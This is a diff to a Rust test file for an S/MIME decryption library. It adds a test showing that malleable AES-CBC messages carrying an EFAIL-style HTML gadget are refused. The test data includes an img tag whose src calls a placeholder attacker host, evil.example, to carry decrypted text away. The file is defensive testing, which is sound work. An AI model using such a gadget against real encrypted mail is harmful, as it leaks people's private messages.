@@ -53,7 +53,6 @@ fn changed_cbc_is_marked_or_refused_and_never_signed() {
         let (opened, _) = open(&letter(&der), &[ours], &known);
         let expected = if signer.is_some() { Wholeness::Authenticated } else { Wholeness::Malleable };
         assert_eq!(opened.wholeness, expected);
-        assert_eq!(opened.notes.contains(&Note::ReachesOut), signer.is_none());
         // In the middle of the text, far from its structure.
         let mut changed = der.clone();
         let at = if signer.is_some() { der.len() / 3 } else { der.len() / 2 + 200 };
@@ -65,6 +64,33 @@ fn changed_cbc_is_marked_or_refused_and_never_signed() {
         let (opened, got) = open(&letter(&der[..der.len() - 64]), &[ours], &known);
         assert!(got.is_empty() || opened.wholeness == Wholeness::Malleable, "{opened:?}");
         assert!(opened.proven_sender().is_none());
+    }
+}
+
+/// What EFAIL makes of a changed letter: something that carries the text away when it is shown. Whoever does not sign
+/// inside cannot be told from him.
+#[test]
+fn what_may_have_been_changed_and_reaches_out_stays_closed() {
+    let ours = own(Kind::SmimeRsa3072);
+    let theirs = own(Kind::SmimeP256);
+    let gadget = "From: mail@insurer.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n\
+                  <img ignore=\"\" src=\"http://evil.example/secret secret\">\r\n";
+    let close = |signer: Option<&OwnKey>, content: Content| {
+        let profile = Profile { content, ..Profile::default() };
+        closed(gadget.as_bytes(), signer, std::slice::from_ref(ours.public()), profile)
+    };
+    let known = [trusted(theirs.public())];
+    let (opened, got) = open(&close(None, Content::Aes256Cbc), &[ours], &known);
+    assert_eq!((opened.still_closed(), got.len()), (Some(NotOpened::ReachesOut), 0), "{opened:?}");
+    assert!(!opened.was_decrypted() && opened.wholeness == Wholeness::Plain, "{opened:?}");
+    // Signed on the outside, by whom ever: he can sign what he has changed.
+    let outer = closed(&close(None, Content::Aes256Cbc), Some(theirs), &[], Profile::default());
+    let (opened, got) = open(&outer, &[ours], &known);
+    assert_eq!((opened.still_closed(), got.len()), (Some(NotOpened::ReachesOut), 0), "{opened:?}");
+    for (signer, content) in [(Some(theirs), Content::Aes256Cbc), (None, Content::Aes256Gcm)] {
+        let (opened, got) = open(&close(signer, content), &[ours], &known);
+        assert_eq!(opened.wholeness, Wholeness::Authenticated, "{opened:?}");
+        assert!(!got.is_empty());
     }
 }
 
